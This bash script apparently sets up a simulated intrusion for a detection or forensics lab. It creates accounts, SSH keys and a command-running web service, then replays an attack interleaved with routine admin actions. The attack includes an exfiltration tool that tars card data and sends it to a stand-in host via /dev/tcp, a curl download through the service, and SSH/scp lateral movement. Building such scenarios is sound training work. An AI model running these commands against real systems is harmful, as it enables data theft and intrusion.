# shellcheck shell=bash disable=SC2034
HOST=web03
SECOND=db03
AGGREGATED=fleet
SKEW=37
FORMAT=ENRICHED

# account NAME UID: an account of both hosts (they share /etc), without a password.
account() {
    echo "$1:x:$2:$2::/srv/home/$1:/bin/bash" >>/etc/passwd
    echo "$1:*:20000:0:99999:7:::" >>/etc/shadow
    echo "$1:x:$2:" >>/etc/group
    install -d -m 700 -o "$2" -g "$2" "/srv/home/$1" "/srv/home/$1/.ssh"
}

keys() {
    local name
    for name in host app admin; do ssh-keygen -q -t ed25519 -N "" -C "$name" -f "/srv/$name.key"; done
    cat /srv/app.key.pub /srv/admin.key.pub >/srv/home/dbadmin/.ssh/authorized_keys
    install -m 600 -o shop /srv/app.key /srv/home/shop/.ssh/id_ed25519
    mv /srv/admin.key "$work/admin.key"
    rm /srv/app.key
}

# ask ADDRESS COMMAND: the client with this address has the web service run it.
ask() {
    outside curl -s --interface "$1" "http://10.88.0.10:8080/run/$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$2")"
}

administer() {
    outside ssh "${options[@]}" -b 192.0.2.7 -i "$work/admin.key" dbadmin@10.88.0.20 "$1"
}

scenario() {
    local options=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null)
    mkdir -p /srv/shop /srv/db /srv/theirs /run/sshd
    cp "$folder/../jobs/service.py" /srv/shop
    echo "name,card" >/srv/db/cards.csv
    echo "item,stock" >/srv/db/stock.csv
    printf '%s\n' 'tar -c -z -f ~/.pack.tgz /srv/db/cards.csv' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat ~/.pack.tgz >&3' >/srv/theirs/tool
    account shop 4050
    account dbadmin 4150
    chown shop /srv/shop
    keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" \
        "Subsystem sftp /usr/lib/openssh/sftp-server" >/srv/sshd_config
    outside /usr/bin/python3 -S -B -m http.server --bind 203.0.113.9 443 --directory /srv/theirs >/dev/null 2>&1 &
    outside /usr/bin/python3 -S -B -m http.server --bind 203.0.113.9 8443 --directory /srv/theirs >/dev/null 2>&1 &
    inside2 /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside setpriv --reuid 4050 --regid 4050 --clear-groups env HOME=/srv/home/shop /usr/bin/python3 -S -B /srv/shop/service.py >/dev/null 2>&1 &
    sleep 2
    administer "cp /srv/db/stock.csv ~/stock.copy"
    ask 192.0.2.7 "date"
    sleep 1
    ask 198.51.100.23 "curl -s -o /srv/shop/.t http://203.0.113.9:443/tool"
    administer "ls -l stock.copy"
    ask 198.51.100.23 "ssh ${options[*]} dbadmin@10.88.0.20 id"
    sleep 3
    ask 198.51.100.23 "ssh ${options[*]} dbadmin@10.88.0.20 ls /srv/db"
    sleep 2
    ask 198.51.100.23 "scp -q ${options[*]} /srv/shop/.t dbadmin@10.88.0.20:.t"
    sleep 1
    administer "gzip -f stock.copy"
    ask 192.0.2.7 "ssh ${options[*]} dbadmin@10.88.0.20 uptime"
    sleep 1
    ask 198.51.100.23 "ssh ${options[*]} dbadmin@10.88.0.20 bash .t"
    administer "rm stock.copy.gz"
    ask 192.0.2.7 "date"
    sleep 1
}
